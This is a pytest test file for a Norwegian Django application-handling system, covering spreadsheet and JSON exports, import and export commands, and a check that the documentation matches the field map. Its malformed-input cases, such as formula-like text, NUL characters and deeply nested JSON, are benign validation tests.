    response = exports.xlsx_response(Soknad.objects.all())
    assert response["Content-Disposition"].endswith(f'soknader-{timezone.localdate():%Y-%m-%d}.xlsx"')
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    assert header == list(exports.COLUMNS)
    cells = dict(zip(header, sheet[2], strict=True))
    assert cells["kontaktperson_navn"].value == FORMULA  # no apostrophe: a text cell is never a formula
    assert cells["kontaktperson_navn"].data_type == "s" and cells["kontaktperson_navn"].quotePrefix
    assert cells["navn"].value == "-2+3" and cells["navn"].data_type == "s"
    assert cells["kontaktperson_telefon"].value == "+47 755 55 000"
    assert not cells["kontaktperson_telefon"].quotePrefix
    assert cells["soknadsdato"].value.date() == dt.date(2024, 1, 2)
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_xlsx_leaves_out_control_characters_it_cannot_hold():
    soknad = _dangerous_application()
    soknad.kontaktperson_navn = "Kari\x01\x0bNordmann"
    soknad.save()
    sheet = load_workbook(io.BytesIO(exports.xlsx_response(Soknad.objects.all()).content)).active
    cells = dict(zip([cell.value for cell in sheet[1]], sheet[2], strict=True))
    assert cells["kontaktperson_navn"].value == "KariNordmann"


def test_json_response_is_the_interchange_format():
    import_records([bodo_alm()])
    response = exports.json_response(Soknad.objects.all())
    assert response["Content-Disposition"].endswith(f'soknader-{timezone.localdate():%Y-%m-%d}.json"')
    assert json.loads(response.content) == _exported()


# ---- the commands -----------------------------------------------------------------------------------


def _file(tmp_path, data, name="soknader.json"):
    path = tmp_path / name
    path.write_text(data if isinstance(data, str) else json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return str(path)


def test_import_command(tmp_path):
    out = io.StringIO()
    call_command("importer_soknader", _file(tmp_path, [bodo_alm(), bht_arb()]), stdout=out)
    assert "Opprettet: 2, oppdatert: 0." in out.getvalue()
    assert "Advarsel: Fikk ikke kontakt med Enhetsregisteret" in out.getvalue()
    out = io.StringIO()
    call_command("importer_soknader", _file(tmp_path, [bodo_alm()]), stdout=out)
    assert "Opprettet: 0, oppdatert: 1." in out.getvalue()
    assert Soknad.objects.count() == 2


def test_import_command_records_the_user(tmp_path):
    bruker = UserFactory(username="saksbehandler")
    call_command("importer_soknader", _file(tmp_path, [bodo_alm()]), "--bruker", "saksbehandler", stdout=io.StringIO())
    assert Statusendring.objects.get().utfort_av == bruker
    with pytest.raises(CommandError, match="Fant ingen bruker"):
        call_command("importer_soknader", _file(tmp_path, [bodo_alm()]), "--bruker", "ukjent")


def test_import_command_refuses_a_bad_file_and_imports_nothing(tmp_path):
    bad = bht_arb()
    bad["kontaktperson"] = {"epost": "ikke-en-adresse"}
    with pytest.raises(CommandError) as error:
        call_command("importer_soknader", _file(tmp_path, [bodo_alm(), bad]), stdout=io.StringIO())
    assert str(error.value) == (
        "1 feil i filen; ingen søknader er importert:\n"
        "  Post 2, kontaktperson.epost: «ikke-en-adresse» er ikke en gyldig e-postadresse."
    )
    assert Soknad.objects.count() == 0


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ('[{"organisasjonsnummer": "972418013",', "er ikke gyldig JSON (linje 1"),
        ('{"organisasjonsnummer": "972418013"}', "Filen må inneholde en JSON-liste"),
    ],
)
def test_import_command_refuses_what_is_not_a_list_of_records(tmp_path, content, expected):
    with pytest.raises(CommandError, match=expected.replace("(", r"\(")):
        call_command("importer_soknader", _file(tmp_path, content))
    with pytest.raises(CommandError, match="Fant ikke filen"):
        call_command("importer_soknader", str(tmp_path / "finnes-ikke.json"))


def test_import_command_refuses_json_nested_too_deep_with_a_message(tmp_path):
    with pytest.raises(CommandError, match="i for mange nivåer"):
        call_command("importer_soknader", _file(tmp_path, "[" * 100_000 + "]" * 100_000), "--kontroller")
    record = bodo_alm()
    nested: list = []
    for _ in range(900):  # deep, but within what the JSON reader manages: a wrong type, named as such
        nested = [nested]
    record["kontaktperson"]["navn"] = nested
    record["ansvar"] = {"noe": nested}
    with pytest.raises(CommandError, match="kontaktperson.navn: må være tekst, ikke en liste"):
        call_command("importer_soknader", _file(tmp_path, [record]), "--kontroller")


@pytest.mark.parametrize("option", [(), ("--kontroller",)])
def test_import_command_refuses_an_integer_too_long_to_read_with_a_message(tmp_path, option):
    text = json.dumps([bodo_alm()]).replace('"972418013"', "9" * 4301, 1)
    with pytest.raises(CommandError, match="over 4 300"):
        call_command("importer_soknader", _file(tmp_path, text), *option)


@pytest.mark.parametrize("option", [(), ("--kontroller",)])
def test_nul_and_lone_surrogates_are_refused_by_the_check_and_the_import(tmp_path, option):
    """PostgreSQL cannot store NUL in text and no database stores a lone surrogate: both are named as errors by
    --kontroller and by the import (SQLite would store NUL, so this is checked here, not left to the database)."""
    record = bodo_alm()
    record["kontaktperson"]["navn"] = "Kari\x00Nordmann"
    record["organisering"] = "Ansvar\ud800"
    record["kontaktperson\x00"] = "x"
    path = tmp_path / "soknader.json"
    path.write_text(json.dumps([record]), encoding="utf-8")  # ensure_ascii: the escapes \u0000 and \ud800
    with pytest.raises(CommandError) as error:
        call_command("importer_soknader", str(path), *option, stdout=io.StringIO())
    message = str(error.value)
    assert "Post 1, kontaktperson.navn: inneholder et null-tegn" in message
    assert "Post 1, organisering: inneholder en ugyldig tegnkode" in message
    assert "Post 1, kontaktperson\ufffd: ukjent felt" in message
    message.encode("utf-8")  # printable as it is
    assert Soknad.objects.count() == 0


def test_import_command_can_only_check(tmp_path):
    out = io.StringIO()
    call_command("importer_soknader", _file(tmp_path, [bodo_alm()]), "--kontroller", stdout=out)
    assert "Filen er i orden: 1 søknader blir opprettet, 0 blir oppdatert." in out.getvalue()
    assert Soknad.objects.count() == 0
    call_command("importer_soknader", _file(tmp_path, [bodo_alm()]), stdout=io.StringIO())
    out = io.StringIO()
    call_command("importer_soknader", _file(tmp_path, [bodo_alm()]), "--kontroller", stdout=out)
    assert "Filen er i orden: 0 søknader blir opprettet, 1 blir oppdatert." in out.getvalue()


def _export_command(*args) -> list[dict]:
    out = io.StringIO()
    call_command("eksporter_soknader", *args, stdout=out)
    text = out.getvalue()
    assert text.startswith('[\n  {\n    "referanse"') or text == "[]\n"
    return json.loads(text)


def test_export_command_writes_everything_with_findings():
    import_records([bodo_alm(), bht_arb()])
    records = _export_command()
    assert [r["spesialitet"] for r in records] == ["ALM", "ARB"]
    assert records == export_records(Soknad.objects.order_by("spesialitet"))
    assert records[0]["mangler"] == []  # complete
    assert {m["kode"] for m in records[1]["mangler"]} >= {"ANSVAR_IKKE_BEKREFTET", "FKM_UDEKKET"}
    assert "Bodø" in json.dumps(records, ensure_ascii=False)


def test_export_command_filters():
    import_records(
        [
            bodo_alm(),
            bht_arb(),
            bodo_alm(spesialitet="SAM", referanse=None, status="innsendt", vedtaksdato=None, registrert_fra=None),
        ]
    )
    assert [r["spesialitet"] for r in _export_command("--status", "innsendt")] == ["ARB", "SAM"]
    assert [r["status"] for r in _export_command("--spesialitet", "alm")] == ["registrert"]
    assert [r["spesialitet"] for r in _export_command("--status", "innsendt", "--spesialitet", "SAM")] == ["SAM"]
    assert _export_command("--status", "trukket") == []


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["--status", "godkjent"], "Ukjent status «godkjent». Gyldige: utkast, innsendt"),
        (["--spesialitet", "KIR"], "Ukjent spesialitet «KIR». Gyldige: ALM, SAM, ARB."),
    ],
)
def test_export_command_validates_its_options(args, expected):
    with pytest.raises(CommandError, match=expected):
        call_command("eksporter_soknader", *args, stdout=io.StringIO())


# ---- the documentation --------------------------------------------------------------------------------


def test_the_documented_example_imports_and_exports_as_shown():
    text = DOC.read_text(encoding="utf-8")
    example = json.loads(text.split("## A full example", 1)[1].split("```json", 1)[1].split("```", 1)[0])
    assert validate_records(example) == []
    result = import_records(example)
    assert (result.created, result.warnings) == (1, [])
    exported = _exported()
    for record in (example[0], exported[0]):
        del record["historikk"][0]["tidspunkt"]
    assert exported == example


def _documented_keys() -> dict[str, list[str]]:
    """The rows of the key tables (the record's and the arenas'), by key: [type, allowed values, model, import]."""
    text = DOC.read_text(encoding="utf-8").split("## The record", 1)[1].split("## Spreadsheets", 1)[0]
    rows = [
        [cell.strip() for cell in line.strip().strip("|").split("|")]
        for line in text.splitlines()
        if line.startswith("| `")
    ]
    return {cells[0].strip("`"): cells[1:] for cells in rows}


def _model_cell(field: fields.Field) -> str:
    if not field.model:
        return ""
    name = field.model if field.on is Soknad else f"{field.on.__name__}.{field.model}"
    return f"computed from `{name}`" if field.out else f"`{name}`"


def test_the_documented_key_tables_are_the_field_map():
    documented = _documented_keys()
    declared = dict(fields.flat(fields.RECORD))
    assert sorted(documented) == sorted(declared)
    assert [key for key in documented if "." not in key] == [f.key for f in fields.RECORD]  # the export's order
    for key, field in declared.items():
        type_, allowed, model, imported = documented[key]
        treatment = imported.split()[0].rstrip(",;:")
        assert (type_, model, treatment) == (field.label, _model_cell(field), field.imported), key
        if field.choices:
            assert set(re.findall(r"`([^`]*)`", allowed)) >= set(field.choices.values), key
        if field.kind == "text" and field.imported != "ignored" and field.max_length:
            assert f"up to {field.max_length} characters" in allowed, key


def test_every_stored_answer_has_a_key():
    """A new field of the application or of an arena cannot be left out of the interchange format."""
    declared = dict(fields.flat(fields.RECORD))
    # slettevarsel: when an untouched draft was told it will be deleted (soknader/personvern.py), bookkeeping
    # saksbehandler, venter_siden, soker_aktiv, forelopig_svar: the directorate's work queue and § 11a (issue 21)
    internal = {
        "id",
        "soknad",
        "opprettet",
        "opprettet_av",
        "endret",
        "slettevarsel",
        "saksbehandler",
        "venter_siden",
        "soker_aktiv",
        "forelopig_svar",
    }
    # sprak (the language of the søker's mail and letters) is not in the format yet: an import gets the default
    for model, computed in (
        (Soknad, {"sprak"}),
        (Laeringsarena, {"laeringsmal_koder", "laeringsmal_feil", "laeringsmal_delvis"}),
    ):
        stored = {f.name for f in model._meta.concrete_fields} - internal - computed
        mapped = {f.model.split(".")[0] for f in declared.values() if f.on is model and f.model and not f.out}
        assert stored <= mapped, stored - mapped


def test_the_documented_spreadsheet_columns_are_the_exported_ones():
    text = DOC.read_text(encoding="utf-8").split("header row of these column names:", 1)[1]
    text = text.split("`spesialitet` and", 1)[0]
    assert [name for name in re.findall(r"`([^`]*)`", text) if " " not in name] == list(exports.COLUMNS)
